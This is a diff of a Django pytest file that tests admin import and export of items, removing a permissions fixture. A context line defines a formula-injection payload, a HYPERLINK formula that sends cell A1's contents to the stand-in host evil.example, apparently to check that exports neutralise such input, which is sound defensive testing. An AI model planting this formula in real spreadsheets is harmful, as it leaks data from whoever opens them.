@@ -9,7 +9,6 @@ import io
 import json
 
 import pytest
-from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
 from openpyxl import load_workbook
@@ -24,13 +23,6 @@ PROCESS = "/admin/items/item/process_import/"
 FORMATS = {"csv": "0", "xlsx": "1", "json": "2"}
 FIELDS = ("id", "name", "description", "price", "category", "tags", "is_active")
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
-
-
-@pytest.fixture
-def admin_client(client, staff):
-    staff.user_permissions.set(Permission.objects.filter(codename__endswith="_item"))
-    client.force_login(staff)
-    return client
 
 
 @pytest.fixture
